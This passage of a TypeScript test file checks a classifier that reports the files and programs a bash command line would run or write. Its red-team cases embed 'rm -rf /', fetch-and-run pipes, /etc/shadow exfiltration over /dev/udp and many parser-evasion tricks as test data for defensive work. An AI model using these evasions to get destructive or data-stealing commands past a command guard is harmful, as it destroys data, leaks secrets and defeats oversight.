  ['shred writes its operands', 'shred -n 3 /etc/x', ['exec shred -n 3 /etc/x', 'write /etc/x']],
  [
    'gzip replaces its operands',
    'gzip -9 /var/log/a',
    ['exec gzip -9 /var/log/a', 'write /var/log/a', 'write /var/log/a.gz'],
  ],
  ['gzip -k keeps them', 'gzip -k /var/log/a', ['exec gzip -k /var/log/a', 'write /var/log/a.gz']],
  [
    'xz -d writes beside its operand',
    'xz -d /etc/x.xz',
    ['exec xz -d /etc/x.xz', 'write /etc/x.xz', 'write /etc/x'],
  ],
  [
    'gunzip -N takes the name from the file: its directory is written',
    'gunzip -N /etc/x.gz',
    ['exec gunzip -N /etc/x.gz', 'write /etc/x.gz', 'write /etc', 'write /etc/'],
  ],
  [
    'gzip -d with a suffix it does not know writes nothing new',
    'gzip -d /etc/x',
    ['exec gzip -d /etc/x', 'write /etc/x'],
  ],
  ['zstd keeps its input', 'zstd /etc/x', ['exec zstd /etc/x', 'write /etc/x.zst']],
  ['lz4 IN OUT writes OUT', 'lz4 /etc/a /etc/b', ['exec lz4 /etc/a /etc/b', 'write /etc/b']],
  ['xz --files reads its inputs from a file', 'xz --files=list', ['exec xz --files=list', 'unknown']],
  ['gzip to stdout writes nothing', 'gzip -c f', ['exec gzip -c f']],
  [
    'rsync -e runs its shell',
    `rsync -avz -e 'ssh -p 22' a b:c`,
    ['exec rsync -avz -e ssh -p 22 a b:c', 'exec ssh -p 22'],
  ],
  [
    'find -exec mv moves what it finds under its starting points',
    'find . -exec mv {} /tmp \\;',
    ['exec find . -exec mv {} /tmp ;', 'exec mv {} /tmp', 'write .', 'write ./', 'write /tmp', 'write /tmp/'],
  ],
];

/**
 * Red-team findings: each line ran something in bash 5.2 (or older) that the classifier did
 * not report, or is a benign look-alike that must stay precise.
 */
const evasions: readonly Case[] = [
  ['quoted arithmetic payload in [[ -eq ]]', "[[ 'a[$(rm -rf /)]' -eq 0 ]]; ls", ['exec ls', 'unknown']],
  [
    'payload in a variable evaluated by $(( ))',
    "x='a[$(rm -rf /)]'; ls $((x))",
    ['exec ls $((x))', 'unknown'],
  ],
  [
    'stdin read into a variable evaluated by $(( ))',
    'read x; ls $((x))',
    ['exec read x', 'exec ls $((x))', 'unknown'],
  ],
  [
    'stdin read into a variable used indirectly',
    'read x; ls ${!x}',
    ['exec read x', 'exec ls ${!x}', 'unknown'],
  ],
  ['prompt expansion of a quoted payload', "x='$(rm -rf /)'; ls ${x@P}", ['exec ls ${x@P}', 'unknown']],
  [
    'declare -i evaluates later assignments',
    "declare -i n; n='a[$(rm -rf /)]'",
    ['exec declare -i n', 'unknown'],
  ],
  ['let evaluates its arguments', "let 'a[$(rm -rf /)]'", ['exec let a[$(rm -rf /)]', 'unknown']],
  ['test -v evaluates a subscript', "test -v 'a[$(rm -rf /)]'", ['exec test -v a[$(rm -rf /)]', 'unknown']],
  ['[ -v ] evaluates a subscript', "[ -v 'a[$(rm -rf /)]' ]", ['exec [ -v a[$(rm -rf /)] ]', 'unknown']],
  [
    'declare of a subscripted name',
    "declare 'a[$(rm -rf /)]=1'",
    ['exec declare a[$(rm -rf /)]=1', 'unknown'],
  ],
  [
    'positional parameters in arithmetic',
    "set -- 'a[$(rm -rf /)]'; ls $(($1))",
    ['exec set -- a[$(rm -rf /)]', 'exec ls $(($1))', 'unknown'],
  ],
  [
    'function arguments in arithmetic',
    "f(){ ls $(($1)); }; f 'a[$(rm -rf /)]'",
    ['exec ls $(($1))', 'exec f a[$(rm -rf /)]', 'unknown'],
  ],
  [
    'for list into arithmetic',
    "for i in 'a[$(rm -rf /)]'; do ls $((i)); done",
    ['exec ls $((i))', 'unknown'],
  ],
  [
    'old $[ ] arithmetic with a quoted payload',
    "echo $[ 'a[$(rm -rf /)]' ]",
    ['unknown', "exec echo $[ 'a[$(rm -rf /)]' ]"],
  ],
  [
    'single quotes in ${…} inside double quotes do not quote',
    'echo "${x:-\'$(rm -rf /)\'}"',
    ['unknown', 'exec echo "${x:-\'$(rm -rf /)\'}"'],
  ],
  [
    'the same with :+ and :=',
    'echo "${x:=\'$(rm -rf /)\'}"',
    ['unknown', 'exec echo "${x:=\'$(rm -rf /)\'}"'],
  ],
  [
    'backquotes the grammar leaves inside ${…}',
    'echo "${x:-`rm -rf /`}"',
    ['unknown', 'exec echo "${x:-`rm -rf /`}"'],
  ],
  [
    'quoted subscript of an indexed array',
    "echo ${a['$(rm -rf /)']}",
    ['unknown', "exec echo ${a['$(rm -rf /)']}"],
  ],
  ['quoted payload that is only printed stays precise', "echo '$(rm -rf /)'", ['exec echo $(rm -rf /)']],
  ['grep for a substitution stays precise', "grep -F '$(' deploy.sh", ['exec grep -F $( deploy.sh']],
  ['plain arithmetic stays precise', 'for ((i=0;i<3;i++)); do echo $((i*2)); done', ['exec echo $((i*2))']],
  ['a default in double quotes stays precise', 'echo "${name:-\'anon\'}"', ['exec echo "${name:-\'anon\'}"']],
  [
    'reading lines stays precise',
    'while read -r line; do echo "$line"; done < /etc/hosts',
    ['exec read -r line', 'exec echo "$line"'],
  ],
  [
    '[ ] compares integers without evaluating',
    '[ "$(id -u)" -eq 0 ] && echo root',
    ['exec id -u', 'exec [ "$(id -u)" -eq 0 ]', 'exec echo root'],
  ],
  ['absolute path to rm', '/bin/rm -rf /', ['exec /bin/rm -rf /', 'exec rm -rf /', 'write /']],
  ['relative path to rm', '../../bin/rm -rf /', ['exec ../../bin/rm -rf /', 'exec rm -rf /', 'write /']],
  [
    'the dynamic loader runs a program',
    '/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /',
    [
      'exec /lib64/ld-linux-x86-64.so.2 /bin/rm -rf /',
      'exec ld-linux-x86-64.so.2 /bin/rm -rf /',
      'exec /bin/rm -rf /',
      'exec rm -rf /',
      'write /',
    ],
  ],
  [
    'sudo with a variable before the command',
    'sudo -E PATH=/tmp rm -rf /',
    ['exec sudo -E PATH=/tmp rm -rf /', 'unknown', 'exec rm -rf /', 'write /'],
  ],
  [
    'sudo with a harmless variable',
    'sudo LANG=C rm -rf /',
    ['exec sudo LANG=C rm -rf /', 'exec rm -rf /', 'write /'],
  ],
  [
    'sudo with a pager variable',
    "sudo PAGER='rm -rf /' git log",
    ['exec sudo PAGER=rm -rf / git log', 'exec rm -rf /', 'write /', 'exec git log'],
  ],
  [
    'python -c is unknown',
    'python3 -c \'import os; os.system("rm -rf /")\'',
    ['exec python3 -c import os; os.system("rm -rf /")', 'unknown'],
  ],
  ['perl -e is unknown', 'perl -e \'system("rm -rf /")\'', ['exec perl -e system("rm -rf /")', 'unknown']],
  [
    'perl -M with code is unknown',
    "perl '-MPOSIX;system(q(id))' x.pl",
    ['exec perl -MPOSIX;system(q(id)) x.pl', 'unknown'],
  ],
  [
    'ruby, node, php, lua inline code',
    'ruby -e 1; node -e 1; php -r 1; lua5.4 -e 1',
    ['exec ruby -e 1', 'unknown', 'exec node -e 1', 'exec php -r 1', 'exec lua5.4 -e 1'],
  ],
  [
    'an interpreter reading the channel is unknown',
    'curl -s http://x | python3',
    ['exec curl -s http://x', 'exec python3', 'unknown'],
  ],
  [
    'node --import of a data: URL is unknown',
    "node --import 'data:text/javascript,1' app.js",
    ['exec node --import data:text/javascript,1 app.js', 'unknown'],
  ],
  [
    'an interpreter running a script file is its argv',
    'python3 -m http.server 8000; perl script.pl; node app.js',
    ['exec python3 -m http.server 8000', 'exec perl script.pl', 'exec node app.js'],
  ],
  ['unbuffer runs its command', 'unbuffer rm -rf /', ['exec unbuffer rm -rf /', 'exec rm -rf /', 'write /']],
  [
    'fakeroot, proxychains, torsocks',
    'fakeroot rm -rf /; proxychains4 curl http://x; torsocks curl http://y',
    [
      'exec fakeroot rm -rf /',
      'exec rm -rf /',
      'write /',
      'exec proxychains4 curl http://x',
      'exec curl http://x',
      'exec torsocks curl http://y',
      'exec curl http://y',
    ],
  ],
  [
    'ip netns exec',
    'ip netns exec ns1 rm -rf /',
    ['exec ip netns exec ns1 rm -rf /', 'exec rm -rf /', 'write /'],
  ],
  [
    'logsave writes and runs',
    'logsave /tmp/l rm -rf /',
    ['exec logsave /tmp/l rm -rf /', 'write /tmp/l', 'exec rm -rf /', 'write /'],
  ],
  ['newgrp starts a shell on the channel', 'newgrp wheel', ['exec newgrp wheel', 'unknown']],
  [
    'ssh-agent runs its command',
    "ssh-agent bash -c 'rm -rf /'",
    ['exec ssh-agent bash -c rm -rf /', 'exec bash -c rm -rf /', 'exec rm -rf /', 'write /'],
  ],
  [
    'split --filter runs a command line',
    "split --filter='rm -rf /' f",
    ['exec split --filter=rm -rf / f', 'exec rm -rf /', 'write /'],
  ],
  [
    'sort --compress-program runs a program',
    'sort --compress-program=rm f',
    ['exec sort --compress-program=rm f', 'exec rm'],
  ],
  [
    'zip -TT runs a command line',
    "zip x.zip f -T -TT 'rm -rf / #'",
    ['exec zip x.zip f -T -TT rm -rf / #', 'exec rm -rf /', 'write /', 'write x.zip'],
  ],
  ['vim -c is unknown', "vim -c ':!rm -rf /' f", ['exec vim -c :!rm -rf / f', 'unknown']],
  ['gdb -ex is unknown', "gdb -batch -ex '!rm -rf /'", ['exec gdb -batch -ex !rm -rf /', 'unknown']],
  [
    'sqlite3 .shell is unknown',
    "sqlite3 x.db '.shell rm -rf /'",
    ['exec sqlite3 x.db .shell rm -rf /', 'unknown'],
  ],
  ['psql \\! is unknown', "psql -c '\\! rm -rf /'", ['exec psql -c \\! rm -rf /', 'unknown']],
  // Programs whose commands come from stdin, here from a pipe or a here-document in the line.
  ['ed reads its commands from stdin', "ed -s f <<'E'\n!rm -rf /\nE", ['exec ed -s f', 'unknown']],
  [
    'red too (it still writes files)',
    "printf 'w /etc/x\\n' | red",
    ['exec printf w /etc/x\\n', 'exec red', 'unknown'],
  ],
  ['ed --version prints and exits', 'ed --version', ['exec ed --version']],
  ['dc runs ! commands', "echo '!rm -rf /' | dc", ['exec echo !rm -rf /', 'exec dc', 'unknown']],
  ['dc -e with ! runs a command', "dc -e '!rm -rf /'", ['exec dc -e !rm -rf /', 'unknown']],
  ['dc -e alone computes and exits', "dc -e '2 3 + p'", ['exec dc -e 2 3 + p']],
  [
    'vi -es reads ex commands from stdin',
    "echo ':!rm -rf /' | vi -es",
    ['exec echo :!rm -rf /', 'exec vi -es', 'unknown'],
  ],
  ['vim -E -s too', 'vim -E -s f', ['exec vim -E -s f', 'unknown']],
  ['ex always reads commands from stdin', 'ex f', ['exec ex f', 'unknown']],
  [
    'make -f - reads a makefile from stdin',
    'cat Makefile.in | make -f -',
    ['exec cat Makefile.in', 'exec make -f -', 'unknown'],
  ],
  ['make --file=/dev/stdin too', 'make --file=/dev/stdin', ['exec make --file=/dev/stdin', 'unknown']],
  ['make with its own Makefile is its argv', 'make -C /srv build', ['exec make -C /srv build']],
  ['sqlite3 writes its database', "sqlite3 x.db 'select 1'", ['exec sqlite3 x.db select 1', 'write x.db']],
  [
    'sqlite3 -readonly does not',
    "sqlite3 -readonly x.db 'select 1'",
    ['exec sqlite3 -readonly x.db select 1'],
  ],
  [
    'sqlite3 writefile() writes any file',
    `sqlite3 x.db "select writefile('/etc/cron.d/x', 'a')"`,
    ["exec sqlite3 x.db select writefile('/etc/cron.d/x', 'a')", 'unknown'],
  ],
  [
    'sqlite3 ATTACH creates another file',
    `sqlite3 x.db "attach '/etc/x' as a; create table a.t(c)"`,
    ["exec sqlite3 x.db attach '/etc/x' as a; create table a.t(c)", 'unknown'],
  ],
  [
    'sqlite3 .read runs commands from a file',
    "sqlite3 x.db '.read /tmp/s'",
    ['exec sqlite3 x.db .read /tmp/s', 'unknown'],
  ],
  [
    'sqlite3 .import from a pipe runs a command',
    `sqlite3 x.db ".import '|rm -rf /' t"`,
    ["exec sqlite3 x.db .import '|rm -rf /' t", 'unknown'],
  ],
  ['sqlite3 .tables only reads', 'sqlite3 x.db .tables', ['exec sqlite3 x.db .tables', 'write x.db']],
  ['sqlite3 without SQL reads stdin', "sqlite3 x.db <<< '.shell rm -rf /'", ['exec sqlite3 x.db', 'unknown']],
  [
    'sqlite3 -init reads commands from a file',
    "sqlite3 -init /tmp/i x.db 'select 1'",
    ['exec sqlite3 -init /tmp/i x.db select 1', 'unknown'],
  ],
  [
    'sqlite3 with SQL does not read stdin',
    "sqlite3 -header x.db 'select 1'",
    ['exec sqlite3 -header x.db select 1', 'write x.db'],
  ],
  [
    'git --config-env is unknown',
    "FOO='rm -rf /' git --config-env=core.pager=FOO log",
    ['exec git --config-env=core.pager=FOO log', 'unknown'],
  ],
  ['git --exec-path is unknown', 'git --exec-path=/tmp log', ['exec git --exec-path=/tmp log', 'unknown']],
  [
    'apt-get Pre-Invoke is unknown',
    'apt-get -o APT::Update::Pre-Invoke::=rm update',
    [
      'exec apt-get -o APT::Update::Pre-Invoke::=rm update',
      'unknown',
      'write /var/lib/apt/lists',
      'write /var/lib/apt/lists/',
      'write /var/cache/apt',
      'write /var/cache/apt/',
    ],
  ],
  [
    'writing /dev/udp opens a connection',
    'cat /etc/shadow >/dev/udp/10.0.0.1/53',
    ['unknown', 'exec cat /etc/shadow'],
  ],
  [
    'a NUL byte hides the rest from bash',
    'ls\u0000; rm -rf /',
    ['unknown', "exec $'ls\\x00'", 'exec rm -rf /', 'write /'],
  ],
  // bash runs `ls\r` (the CR is a word character), then rm: unknown, and rm is still seen.
  [
    'CR before a newline still separates commands',
    'ls\r\nrm -rf /',
    ['unknown', 'exec ls', 'exec rm -rf /', 'write /'],
  ],
  ['vertical tab is not a blank to bash', 'ls\u000brm -rf /', ['unknown', 'exec ls rm -rf /']],
  ['unicode spaces are part of the word', 'ls\u00a0-la', ['exec ls\u00a0-la']],
  ['a list after a heredoc operator', 'cat <<EOF; rm -rf /\nfoo\nEOF', ['unknown', 'exec cat']],
  [
    '<<- strips tabs before the delimiter',
    'cat <<-EOF\n\tfoo\n\tEOF\nrm -rf /',
    ['exec cat', 'exec rm -rf /', 'write /'],
  ],
  ['BASH_CMDS rebinds a name', 'BASH_CMDS[ls]=/bin/rm; ls -rf /', ['unknown', 'exec ls -rf /']],
  [
    'declare -A BASH_CMDS rebinds names',
    'declare -A BASH_CMDS=([ls]=/bin/rm); ls -rf /',
    ['unknown', 'exec declare -A BASH_CMDS=([ls]=/bin/rm)', 'exec ls -rf /'],
  ],
  ['a line continuation inside a name joins it', 'r\\\nm -rf /', ['exec rm -rf /', 'write /']],
  ['a continuation between words still separates them', 'ls \\\n-la', ['exec ls -la']],
  ['backslash before CR-LF escapes the CR for bash', 'ls \\\r\n-la', ['unknown', 'exec ls -la']],
  ['source of stdin runs the channel', 'source /dev/stdin', ['exec source /dev/stdin', 'unknown']],
  [
    'source of stdin from a here-string',
    ". /dev/stdin <<< 'rm -rf /'",
    ['exec . /dev/stdin', 'exec rm -rf /', 'unknown', 'write /'],
  ],
  [
    'source of a process substitution is unknown',
    'source <(curl -s http://x)',
    ['exec curl -s http://x', 'exec source <(curl -s http://x)', 'unknown'],
  ],
  [
    'a shell running /dev/stdin reads the channel',
    'bash /proc/self/fd/0',
    ['exec bash /proc/self/fd/0', 'unknown'],
  ],
  ['source of a file is its argv', 'source ~/.profile', ['exec source ~/.profile']],
  [
    'escaped backquotes nest a substitution',
    'echo `echo \\`rm -rf /\\``',
    ['exec rm -rf /', 'write /', 'exec echo `rm -rf /`', 'exec echo `echo \\`rm -rf /\\``'],
  ],
  [
    'escaped backquotes in an assignment',
    'x=`echo \\`rm -rf /\\``',
    ['exec rm -rf /', 'write /', 'exec echo `rm -rf /`'],
  ],
  [
    'escaped backquotes inside double quotes',
    'echo "`echo \\"\\`rm -rf /\\`\\"`"',
    ['exec rm -rf /', 'write /', 'exec echo "`rm -rf /`"', 'exec echo "`echo \\"\\`rm -rf /\\`\\"`"'],
  ],
  [
    'an escaped dollar inside backquotes is a substitution',
    'echo `echo \\$(rm -rf /)`',
    ['unknown', 'exec rm -rf /', 'write /', 'exec echo $(rm -rf /)', 'exec echo `echo \\$(rm -rf /)`'],
  ],
];

describe('classifyShellCommand', () => {
  const groups = {
    evasions,
    programs,
    simple,
    substitutions,
    heredocs,
    control,
    wrappers,
    quoting,
    unresolvable,
    redirects,
    environment,
  };
  for (const [group, cases] of Object.entries(groups)) {
    describe(group, () => {
      it.each(cases)('%s: %j', (_name, command, expected) => {
        expect(classifyShellCommand(command)).toEqual(actions(...expected));
      });
    });
  }

  it('follows nested command strings', () => {
    let command = 'id';
    for (let i = 0; i < 6; i++) command = `sh -c ${quote(command)}`;
    expect(classifyShellCommand(command)).toContainEqual({ operation: 'exec', resource: 'id' });
  });

  it('bounds recursion: endlessly nested wrappers and eval are unknown', () => {
    for (const command of [`${'sudo '.repeat(40)}id`, `${'eval '.repeat(40)}id`]) {
      const result = classifyShellCommand(command);
      expect(result).toContainEqual({ operation: 'unknown' });
      expect(result).not.toContainEqual({ operation: 'exec', resource: 'id' });
    }
  });

  it('bounds recursion: deeply nested substitutions are unknown, not a crash', () => {
    const command = `${'echo $('.repeat(2000)}id${')'.repeat(2000)}`;
    expect(classifyShellCommand(command)).toContainEqual({ operation: 'unknown' });
  });

  it('caps the number of actions', () => {
    const command = Array.from({ length: 1500 }, (_, i) => `cmd${i}`).join(';');
    const result = classifyShellCommand(command);
    expect(result).toHaveLength(1001);
    expect(result.at(-1)).toEqual({ operation: 'unknown' });
  });

  it('a command line longer than 64 KiB is unknown without parsing', () => {
    expect(classifyShellCommand('ls;'.repeat(22_000))).toEqual([{ operation: 'unknown' }]);
    expect(classifyShellCommand(`ls ${'a'.repeat(64 * 1024 - 3)}`)).toEqual([
      { operation: 'exec', resource: `ls ${'a'.repeat(64 * 1024 - 3)}` },
    ]);
  });

  it('bounds pathological nesting of every kind: unknown, never a crash', () => {
    const lines = [
      '$('.repeat(5000),
      `${'('.repeat(10_000)}id${')'.repeat(10_000)}`,
      `${'{ '.repeat(5000)}id; ${'}; '.repeat(5000)}`,
      `echo ${'$(('.repeat(3000)}1${'))'.repeat(3000)}`,
      `${'if true; then '.repeat(2000)}id; ${'fi; '.repeat(2000)}`,
      `[[ ${'( '.repeat(3000)}-n x${' )'.repeat(3000)} ]]`,
    ];
    for (const line of lines) expect(classifyShellCommand(line)).toContainEqual({ operation: 'unknown' });
  });

  it('treats a non-string as unknown', () => {
    expect(classifyShellCommand(42 as unknown as string)).toEqual([{ operation: 'unknown' }]);
  });
});

// Places where bash reads a line differently from tree-sitter-bash, each found against real bash
// (see test/shell-oracle.test.ts): heredoc bodies, blanks and comments, control characters inside
// arguments, glob command names, NUL in $'…', brace expansion's cost, and false `unknown`s.
const heredocReadings: readonly Case[] = [
  ['$\\⏎( in an unquoted body is a substitution', 'cat <<EOF\n$\\\n(id)\nEOF', ['exec id', 'exec cat']],
  [
    'a continuation joins body lines before $( is seen',
    'cat <<EOF\na \\\n$(id)\nEOF',
    ['exec id', 'exec cat'],
  ],
  ['a backquote after a continuation', 'cat <<EOF\n\\\n`id`\nEOF', ['exec id', 'exec cat']],
  ['backquotes in an unquoted body', 'cat <<EOF\nx `id` y\nEOF', ['exec id', 'exec cat']],
  ['escaped backquotes in a body are text', 'cat <<EOF\nx \\`id\\` y\nEOF', ['exec cat']],
  ['$( after a backquote in a body', 'cat <<EOF\n`ls`\n\t$(id)\nEOF', ['exec ls', 'exec id', 'exec cat']],
  ['$( on a tab-indented line of a <<- body', 'cat <<-EOF\n\t$(id)\n\tEOF', ['exec id', 'exec cat']],
  ['$( inside ${…} in a body', 'cat <<EOF\n${x:-$(id)}\nEOF', ['exec id', 'exec cat']],
  // The grammar reads `$((` in a body as `$(` and a subshell: one extra action, never one fewer.
  // bash evaluates id's output as arithmetic, so the line is also unknown (shell/deferred.ts).
  [
    'arithmetic in a body runs its substitution',
    'cat <<EOF\n$((1 + $(id)))\nEOF',
    ['exec id', 'exec 1 + $(id)', 'exec cat', 'unknown'],
  ],
  ['a comment ends at its newline, continuation or not', 'echo a #c\\\nid', ['exec echo a', 'exec id']],
  [
    'a comment the first parse could not see keeps its continuation',
    'grep <<E\\\nOF\nE\\\nOF\ncat x #c\\\nz',
    ['unknown', 'exec grep', 'exec cat x'],
  ],
  ['backquotes in a quoted body are text', "cat <<'EOF'\nx `id` y\nEOF", ['exec cat']],
  [
    'a shell reading a body with backquotes',
    'bash <<EOF\n`cat /tmp/x`\nEOF',
    ['exec cat /tmp/x', 'exec bash', 'unknown'],
  ],
  [
    'a closing delimiter spelled across a continuation ends the body',
    'cat <<EOF\nbody\nE\\\nOF\nrm -rf /\nEOF',
    ['exec cat', 'exec rm -rf /', 'write /', 'exec EOF'],
  ],
  [
    '<<- strips tabs after joining: the joined line ends the body',
    'cat <<-EOF\nE\\\nOF\nrm -rf /\nEOF',
    ['exec cat', 'exec rm -rf /', 'write /', 'exec EOF'],
  ],
  [
    '<<- strips leading tabs before comparing',
    'cat <<-EOF\n\tEOF\nrm -rf /',
    ['exec cat', 'exec rm -rf /', 'write /'],
  ],
  [
    'an opening delimiter spelled across a continuation',
    'cat <<E\\\nOF\nbody $(id)\nEOF\nrm x',
    ['exec id', 'exec cat', 'exec rm x', 'write x'],
  ],
  [
    'an escaped backslash before the newline is not a continuation',
    'cat <<EOF\na\\\\\nEOF\nrm x',
    ['exec cat', 'exec rm x', 'write x'],
  ],
  ['a quoted delimiter keeps continuations', "cat <<'EOF'\n$\\\n(id)\nE\\\nOF\nEOF", ['exec cat']],
  [
    'a double-quoted delimiter spelled across a continuation',
    'cat <<"E\\\nOF"\n$(id)\nEOF\nrm x',
    ['exec cat', 'exec rm x', 'write x'],
  ],
];

const blanks: readonly Case[] = [
  ['form feed is a word character', 'rm\f-rf /', ['unknown', 'exec rm -rf /', 'write /']],
  ['vertical tab is a word character', 'echo a\vb', ['unknown', 'exec echo a b']],
  ['carriage return is a word character', 'ls\r\nid', ['unknown', 'exec ls', 'exec id']],
  ['no-break space is a word character', 'rm\u00a0-rf /', ['exec rm\u00a0-rf /']],
  ['# after a form feed is not a comment', 'echo a\f#;id', ['unknown', 'exec echo a']],
  ['# after a continuation is inside the word', 'echo x\\\n#;id', ['exec echo x#', 'exec id']],
  ['# after a blank starts a comment', 'echo x #;id', ['exec echo x']],
  ['a continuation in a comment is text', 'echo a # c \\\nid', ['exec echo a', 'exec id']],
  ['$\\⏎( is a substitution', 'echo $\\\n(id)', ['exec id', 'exec echo $(id)']],
  ['$\\⏎( inside double quotes', 'echo "$\\\n(id)"', ['exec id', 'exec echo "$(id)"']],
  ['an operator spelled across a continuation', 'ls &\\\n& id', ['exec ls', 'exec id']],
  ["a continuation inside $'…' is text", "echo $'a\\\nb'", ["exec echo $'a\\\\\\nb'"]],
];

const arguments_: readonly Case[] = [
  ['a newline inside one argument is shown escaped', "echo 'x\nrm -rf /'", ["exec echo $'x\\nrm -rf /'"]],
  ['a carriage return inside an argument', "printf 'a\rb'", ["exec printf $'a\\rb'"]],
  ['an escape character inside an argument', "echo $'\\e[2J'", ["exec echo $'\\x1b[2J'"]],
  ['a backslash and quote inside an escaped argument', "echo $'a\\\\\\'\\n'", ["exec echo $'a\\\\\\'\\n'"]],
  ['an argument that looks escaped is escaped too', `echo "\\$'x'"`, ["exec echo $'$\\'x\\''"]],
  ['a newline inside a write target', "echo > $'/tmp/a\\nb'", ["write $'/tmp/a\\nb'", 'exec echo']],
  ['a newline in an argument that is not literal', 'echo "$x\nrm -rf /"', ['exec echo $\'"$x\\nrm -rf /"\'']],
];

const names: readonly Case[] = [
  ['a bracket glob names a program', '[w]hoami', ['unknown', 'exec hoami']],
  ['a quoted-tail bracket glob', "[w]'hoami'", ['unknown', 'exec hoami']],
  ['a bracket glob after a path', '/usr/bin/[w]hoami', ['unknown']],
  ['a question-mark glob', '/bin/wh?ami', ['unknown']],
  ['a star glob', 'who*', ['unknown']],
  ['the [ builtin stays a test', '[ -f x ] && ls', ['exec [ -f x ]', 'exec ls']],
  ['a bracket glob the grammar reads as a test', '[!a-z]', ['unknown']],
  ['[[ joined to a word is no keyword', '[[-f x ]] && ls', ['unknown', 'exec ls']],
  ['[[ stays syntax', '[[ -f x ]] && ls', ['exec ls']],
  ['a quoted [ is the test builtin', "'[' -f x ']'", ['exec [ -f x ]']],
  ["NUL in $'…' ends the string, not the word", "$'l\\0x's -d /", ['exec ls -d /']],
  ["\\x00 in $'…'", "echo $'a\\x00b'c", ['exec echo ac']],
  ["\\c@ in $'…'", "echo $'a\\c@b'c", ['exec echo ac']],
];

const falseUnknowns: readonly Case[] = [
  ['a here-string before the arguments', 'jq <<<"$json" -S .', ['exec jq -S .']],
  [
    'a here-string between arguments and a redirection',
    'jq <<<"$json" -S . > v.json',
    ['write v.json', 'exec jq -S .'],
  ],
  ['test with ==', 'test "$a" == "$b"', ['exec test "$a" == "$b"']],
  ['[ with ==', '[ "$a" == "$b" ]', ['exec [ "$a" == "$b" ]']],
  ['a subshell right before done', 'for v in */; do (cd "$v" && ls) done', ['exec cd "$v"', 'exec ls']],
  ['a group right before done', 'while read l; do { echo "$l"; } done', ['exec read l', 'exec echo "$l"']],
  // tree-sitter-bash recovers from this one with an error node: unknown, as any parse error.
  ['a subshell right before fi', 'if true; then (ls) fi', ['unknown', 'exec true']],
  ['python -m runs a module', 'python3 -m json.tool', ['exec python3 -m json.tool']],
  ['an interpreter asked for its version', 'php -v', ['exec php -v']],
  ['python -v alone is verbose and reads stdin', 'python -v', ['exec python -v', 'unknown']],
  ['git stash -u is not --upload-pack', 'git stash -u', ['exec git stash -u', 'write .', 'write ./']],
  [
    'git clone -u is --upload-pack',
    "git clone -u 'rm x' h:r",
    ['exec git clone -u rm x h:r', 'exec rm x', 'write x', 'write r', 'write r/'],
  ],
  ['command -v only looks up', 'command -v "$X"', ['exec command -v "$X"']],
  [
    'a format that starts with text is no option',
    'printf "go: $(which go)\\n"',
    ['exec which go', 'exec printf "go: $(which go)\\n"'],
  ],
  [
    'a glob under a directory is no option',
    'cp dist/* /srv/app/',
    ['exec cp dist/* /srv/app/', 'write /srv/app/'],
  ],
];

describe('classifyShellCommand where bash reads a line differently', () => {
  const groups = {
    heredocs: heredocReadings,
    blanks,
    arguments: arguments_,
    names,
    'false unknowns': falseUnknowns,
  };
  for (const [group, cases] of Object.entries(groups)) {
    describe(group, () => {
      it.each(cases)('%s: %j', (_name, command, expected) => {
        expect(classifyShellCommand(command)).toEqual(actions(...expected));
      });
    });
  }

  it('brace expansion is bounded before it copies: exponential words are unknown', () => {
    for (const line of [
      `echo ${'{a,b}'.repeat(13_000)}`,
      `echo ${'{'.repeat(20_000)}a,b${'}'.repeat(20_000)}`,
      `echo ${'{1..99999}'.repeat(6000)}`,
      `echo ${'{a,b,c,d,e,f,g,h}'.repeat(3600)}`,
    ]) {
      expect(line.length).toBeLessThan(64 * 1024);
      expect(classifyShellCommand(line)).toContainEqual({ operation: 'unknown' });
    }
  });

  it('brace expansion under the bound is still done', () => {
    expect(classifyShellCommand('rm {a,b}{1..2}')).toEqual(
      actions('exec rm a1 a2 b1 b2', 'write a1', 'write a2', 'write b1', 'write b2'),
    );
  });
});

/** Single-quotes a string for sh. */
function quote(s: string): string {
  return `'${s.replaceAll("'", `'\\''`)}'`;
}
